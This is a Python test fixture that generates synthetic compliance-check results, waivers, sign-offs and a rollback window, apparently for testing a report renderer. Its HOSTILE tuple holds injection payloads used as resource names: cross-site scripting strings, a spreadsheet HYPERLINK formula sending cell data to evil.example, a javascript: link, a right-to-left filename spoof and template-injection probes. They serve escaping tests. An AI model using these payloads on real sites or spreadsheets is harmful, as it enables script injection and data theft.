"""Results as a check of the whole checklist gives them: 171 items, 119 controls, every status, hostile names.

Everything follows from the arguments; no two calls differ.
"""

from __future__ import annotations

import hashlib
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

from checks.checklist.model import (
    SATISFIED,
    ControlResult,
    Evidence,
    ItemResult,
    Level,
    ProofResult,
    Results,
    Status,
    Subject,
    Waiver,
    WaiverState,
)
from checks.checklist.stand import stand
from checks.report.model import Moved, Release, Rollback, RollbackState, Run, SignOff, SignOffState

T, L, R, P = Level.TEMPLATE, Level.LIVE, Level.RUN, Level.PERSON
AT = datetime(2026, 11, 26, 20, 5, tzinfo=UTC)

HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "</script><img src=x onerror=alert(2)>",
    "@everyone | `code` [link](javascript:alert(3)) ![x](http://evil.example/p.png)",
    "bucket\u202egnp.exe",
    "'\"><svg/onload=alert(4)>",
    "{{ 7 * 7 }} {% raw %} ${7*7} &lt;b&gt;",
    "-->]]><!--\x00\x1b[31m",
)

_ITEMS = [
    tuple(line.split("\t"))
    for line in (Path(__file__).parent / "items.tsv").read_text(encoding="utf-8").splitlines()
]
_OWNERS = (
    "Development Team Lead",
    "DevOps Engineer",
    "Security Officer",
    "Quality Assurance",
    "Product Owner",
    "Business Analyst",
    "Operations Manager",
    "Project Manager",
    "Technical Director",
)
_PATTERN = (
    *[Status.PASSED] * 11,
    Status.FAILED,
    Status.PASSED,
    Status.MANUAL_PENDING,
    Status.PASSED,
    Status.NOT_EVALUATED,
    Status.ATTESTED,
    Status.PASSED,
    Status.WAIVED,
    Status.PASSED,
    Status.NOT_APPLICABLE,
    Status.PASSED,
    Status.ERROR,
)
_KINDS = {T: "rule", L: "probe", R: "run", P: "record"}
_SEEN = {
    Status.PASSED: "all of them are as they must be",
    Status.FAILED: "1 of them is encrypted with a key of AWS instead of one of ours",
    Status.NOT_EVALUATED: "there is no run of this commit",
    Status.NOT_APPLICABLE: "there is no domain in this environment",
    Status.MANUAL_PENDING: "there is no record signed by a person",
    Status.ATTESTED: "a record signed on 2026-11-20",
    Status.WAIVED: "TTL is off on one table",
    Status.ERROR: "AccessDenied: dynamodb:DescribeTimeToLive",
}


def digest(text: str) -> str:
    """A digest that looks like one."""
    return hashlib.sha256(text.encode()).hexdigest()


def subject(index: int, environment: str = "prod") -> Subject:
    """A resource; every seventh has a name that somebody chose to do harm."""
    name = HOSTILE[index // 7 % len(HOSTILE)] if index % 7 == 0 else f"Payments{index}Table"
    return Subject(
        stack=f"Hasivu-{environment}-Data",
        logical_id=name,
        kind="AWS::DynamoDB::Table",
        place=f"Data/Payments/{name}",
        physical_id=f"hasivu-{environment}-{name}",
    )


def proof(name: str, level: Level, status: Status, index: int, *, environment: str = "prod") -> ProofResult:
    """A proof that looks as a check's does."""
    broken = status in (Status.FAILED, Status.WAIVED, Status.ERROR)
    return ProofResult(
        proof_id=f"{_KINDS[level]}:{name}",
        level=level,
        title=f"{name.replace('-', ' ').capitalize()}, as the {level.name.lower()} shows it",
        status=status,
        expected="every table, bucket and queue is encrypted with a key of ours; ≥ 35 days back → ₹0 lost",
        observed=_SEEN[status],
        looked_at=0 if status in (Status.NOT_EVALUATED, Status.MANUAL_PENDING) else index % 40 + 1,
        against=tuple(subject(index + step, environment) for step in range(index % 3 + 1)) if broken else (),
        on_emulator=environment == "sandbox" and level in (L, R),
        evidence=(f"evidence/{name}-{level.value}.json",) if level in (R, P) else (),
        remedy="Set `encryption=TableEncryption.CUSTOMER_MANAGED` in stacks/data.py, deploy, and check again."
        if broken
        else "",
        controls=(f"PCI DSS {index % 12 + 1}.{index % 5 + 1}.1",),
    )


def results(**changes: Any) -> Results:
    """Results of production, or with ``changes`` of anything else."""
    environment = changes.get("environment", "prod")
    shift = changes.pop("shift", 0)
    at = changes.get("generated_at", AT)
    items, proofs, evidence, waivers = [], [], [], []
    for number, (section, text) in enumerate(_ITEMS, 1):
        status = _PATTERN[(number + shift) % len(_PATTERN)]
        required = ((T,), (T, L), (T, R), (T, L, R), (P,))[number % 5]
        if status in (Status.MANUAL_PENDING, Status.ATTESTED):
            required = (P,)
        item_id = f"HC-{number:03}"
        owner = _OWNERS[number % len(_OWNERS)]
        made = []
        for place, level in enumerate(required):
            last = Status.FAILED if status is Status.WAIVED else status
            own = last if place == len(required) - 1 else Status.PASSED
            made.append(proof(f"item-{number:03}", level, own, number, environment=environment))
        proofs += made
        evidence += [_evidence(each, number, at) for each in made if each.evidence]
        waiver_id = f"W-{number:03}" if status is Status.WAIVED else None
        if waiver_id is not None:
            waivers.append(_waiver(waiver_id, item_id, environment, number, at.date()))
        items.append(
            ItemResult(
                item_id=item_id,
                number=number,
                section=tuple(section.split(" / ")),
                text=text,
                intent="The CDK's stacks take the place of serverless.yml." if "serverless" in text else "",
                owner=owner,
                blocking=number % 4 != 0,
                required=required,
                proven=tuple(each.level for each in made if each.status in SATISFIED)
                if status is not Status.NOT_APPLICABLE
                else (),
                status=status,
                reason=f"{made[-1].proof_id}: {_SEEN[status]}",
                remedy=made[-1].remedy
                or ("Act, and have it recorded." if status is Status.MANUAL_PENDING else ""),
                proofs=tuple(each.proof_id for each in made),
                waiver_id=waiver_id,
            )
        )
    document: dict[str, Any] = {
        "environment": environment,
        "emulator": environment == "sandbox",
        "generated_at": at,
        "commit": "4f1d2c3b5a69788796a5b4c3d2e1f00f1e2d3c4b",
        "source_sha256": digest("source"),
        "assembly_sha256": digest("assembly"),
        "catalogue_sha256": digest("catalogue"),
        "waivers_sha256": digest("waivers"),
        "audit_checkpoint": digest("checkpoint"),
        "tools": {"hasivu": "0.1.0", "cdk-nag": "3.0.2", "cfn-lint": "1.58.0", "boto3": "1.43.106"},
        "items": tuple(items),
        "controls": _controls(proofs),
        "proofs": tuple(sorted(proofs, key=lambda each: each.proof_id)),
        "evidence": tuple(sorted(evidence, key=lambda each: each.path)),
        "waivers": (*waivers, *_ended(environment, at.date())),
        "unmatched": tuple(subject(index, environment) for index in range(0, 36, 3)),
        "notes": (
            "The advisory database is of 2024-10: younger advisories are not looked for.",
            "The firewall is never enforced in the emulator: its proof is the template.",
        ),
    }
    return Results(**(document | changes))


def _evidence(made: ProofResult, number: int, at: datetime) -> Evidence:
    return Evidence(
        path=made.evidence[0],
        sha256=digest(made.proof_id),
        size=number * 1_337,
        kind="attestation" if made.level is P else "junit",
        collected_at=at - timedelta(days=number % 30, hours=3),
        tool="hasivu attest" if made.level is P else "pytest",
        tool_version="9.2.0",
        proves=f"what {made.proof_id} says",
        valid_until=at.date() + timedelta(days=number % 60 - 5) if made.level is P else None,
    )


def _waiver(waiver_id: str, waives: str, environment: str, number: int, today: date) -> Waiver:
    return Waiver(
        waiver_id=waiver_id,
        waives=waives,
        environment=environment,
        owner=_OWNERS[number % len(_OWNERS)],
        ticket=f"HAS-{1_000 + number}",
        reason="The table is migrated in the next release; nothing in it outlives a day.",
        compensating_control="A scheduled function removes what is older than a day; an alarm watches it.",
        created=today - timedelta(days=20),
        expires=today + timedelta(days=number % 45),
        fingerprint=digest(waiver_id),
        state=WaiverState.IN_FORCE,
    )


def _ended(environment: str, today: date) -> tuple[Waiver, ...]:
    """Waivers that do not count, for each reason."""
    ends = {
        WaiverState.EXPIRED: today - timedelta(days=4),
        WaiverState.LAPSED: today + timedelta(days=9),
        WaiverState.UNUSED: today + timedelta(days=30),
        WaiverState.MALFORMED: None,
    }
    return tuple(
        _waiver(f"W-{state.value}", f"HC-{12 + place:03}", environment, 12 + place, today).model_copy(
            update={"state": state, "expires": expires}
        )
        for place, (state, expires) in enumerate(ends.items())
    )


def _controls(proofs: list[ProofResult]) -> tuple[ControlResult, ...]:
    controls = []
    frameworks = [("PCI DSS 4.0.1", 78), ("GDPR", 17), ("SOX", 24)]
    number = 0
    for framework, count in frameworks:
        for index in range(count):
            number += 1
            used = proofs[number * 2 : number * 2 + 2]
            required = tuple(dict.fromkeys(each.level for each in used)) if number % 7 else (P,)
            found = stand(
                required, {level: [each for each in used if each.level is level] for level in Level}
            )
            controls.append(
                ControlResult(
                    framework=framework,
                    control_id=f"{index // 6 + 1}.{index % 6 + 1}/{index}"
                    if framework.startswith("PCI")
                    else f"Art. {index + 5}"
                    if framework == "GDPR"
                    else f"CM-{index + 1}",
                    meaning="Account data is unreadable wherever it is stored; keys are held by few",
                    required=required,
                    proven=found.proven,
                    status=found.status,
                    reason=_SEEN[found.status],
                    proofs=tuple(each.proof_id for each in used),
                )
            )
    return tuple(controls)


def sound(**changes: Any) -> Results:
    """Results in which everything is satisfied."""
    base = results(**changes)
    return base.model_copy(
        update={
            "items": tuple(
                item.model_copy(update={"status": Status.PASSED, "proven": item.required, "waiver_id": None})
                for item in base.items
            ),
            "proofs": tuple(
                each.model_copy(update={"status": Status.PASSED, "against": (), "looked_at": 1})
                for each in base.proofs
            ),
            "controls": tuple(_sound(each, base) for each in base.controls),
            "waivers": (),
            "unmatched": (),
        }
    )


def _sound(control: ControlResult, base: Results) -> ControlResult:
    shown = {each.level for each in base.proofs if each.proof_id in control.proofs}
    levels = tuple(level for level in Level if level in shown)
    return control.model_copy(update={"status": Status.PASSED, "required": levels, "proven": levels})


def earlier() -> Results:
    """The same environment, a week before, with other things wrong."""
    return results(
        generated_at=AT - timedelta(days=7),
        shift=1,
        commit="00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee",
        catalogue_sha256=digest("the catalogue of last week"),
    )


def person(role: str) -> str:
    """An address as the committed list of signers has it."""
    return f"{role.split(maxsplit=1)[0].lower()}@hasivu.example"


def release(**changes: Any) -> Release:
    """Sign-offs in every state, an open rollback window, and the proofs that go with them."""
    states = (
        *[SignOffState.APPROVED] * 3,
        SignOffState.CONDITIONS_OPEN,
        SignOffState.VOID,
        SignOffState.REJECTED,
        SignOffState.GONE,
        SignOffState.MISSING,
        SignOffState.MISSING,
    )
    signs = tuple(
        sign_off(role, state, AT + timedelta(hours=index))
        for index, (role, state) in enumerate(zip(_OWNERS, states, strict=True))
    )
    document: dict[str, Any] = {
        "judged_at": AT + timedelta(hours=12),
        "deployment_id": "prod-0007-4f1d2c3b5a69",
        "sign_offs": signs,
        "rollback": rollback(),
        "people": tuple(sorted(person(role) for role in _OWNERS)),
        "against": ("2 sign-offs missing: Project Manager, Technical Director",),
        "proofs": (
            *(
                sign_off_proof(role, Status.ATTESTED if state is SignOffState.APPROVED else Status.FAILED)
                for role, state in zip(_OWNERS, states, strict=True)
            ),
        ),
    }
    return Release(**document | changes)


def sign_off(role: str, state: SignOffState, at: datetime) -> SignOff:
    """What ``role`` decided."""
    if state in (SignOffState.MISSING, SignOffState.GONE):
        return SignOff(
            role=role,
            required=True,
            state=state,
            reasons=("the decision is not at hand",) if state is SignOffState.GONE else (),
        )
    conditions = ("Refunds above ₹50,000 by two people until January. (open)",)
    return SignOff(
        role=role,
        required=True,
        state=state,
        decision="reject" if state is SignOffState.REJECTED else "approve",
        name=person(role),
        signed_at=at,
        valid_until=at + timedelta(hours=72),
        ticket="OPS-12",
        conditions=conditions if state is SignOffState.CONDITIONS_OPEN else (),
        reasons=("the assembly is not the one that was decided on",) if state is SignOffState.VOID else (),
    )


def sign_off_proof(role: str, status: Status) -> ProofResult:
    """The same as a proof of the checklist."""
    return ProofResult(
        proof_id=f"record:signoff-{role.lower().replace(' ', '-')}",
        level=P,
        title=f"Sign-off: {role}",
        status=status,
        expected="approved by one person of this role, for exactly this report",
        observed=f"by {person(role)}",
        looked_at=1,
    )


def rollback(state: RollbackState = RollbackState.OPEN, **changes: Any) -> Rollback:
    """A window with 21 functions of which one is new."""
    document: dict[str, Any] = {
        "deployment_id": "prod-0007-4f1d2c3b5a69",
        "assembly_sha256": digest("the assembly"),
        "previous_assembly_sha256": digest("the assembly before"),
        "deployed_at": AT - timedelta(hours=10, minutes=20),
        "deadline": AT + timedelta(hours=13, minutes=40),
        "state": state,
        "command": "hasivu rollback --env prod --reason TICKET --key KEY",
        "functions": tuple(
            Moved(
                function=f"hasivu-prod-function-{number}",
                previous=None if number == 20 else str(number + 3),
                next=str(number + 4),
            )
            for number in range(21)
        ),
        "removed": ("hasivu-prod-old",),
        "owner": person("DevOps Engineer"),
        "ticket": "OPS-12",
    }
    if state in (RollbackState.CLOSED, RollbackState.ROLLED_BACK):
        document |= {
            "ended_at": AT + timedelta(hours=9),
            "ended_by": person("DevOps Engineer"),
            "ended_how": "13 success criteria met",
        }
    return Rollback(**document | changes)


def history(last: Results, count: int = 14) -> tuple[Run, ...]:
    """Runs that get better day by day, up to ``last``."""
    final = Run.of(last)
    runs = []
    for back in range(count - 1, 0, -1):
        worse = min(back * 3, final.counts[Status.PASSED])
        counts = dict(final.counts)
        counts[Status.PASSED] -= worse
        counts[Status.NOT_EVALUATED] = counts.get(Status.NOT_EVALUATED, 0) + worse
        runs.append(
            final.model_copy(
                update={
                    "at": final.at - timedelta(days=back),
                    "results_sha256": digest(f"run {back}"),
                    "counts": counts,
                    "catalogue_sha256": digest("an older catalogue") if back > 9 else final.catalogue_sha256,
                }
            )
        )
    return (*runs, final)
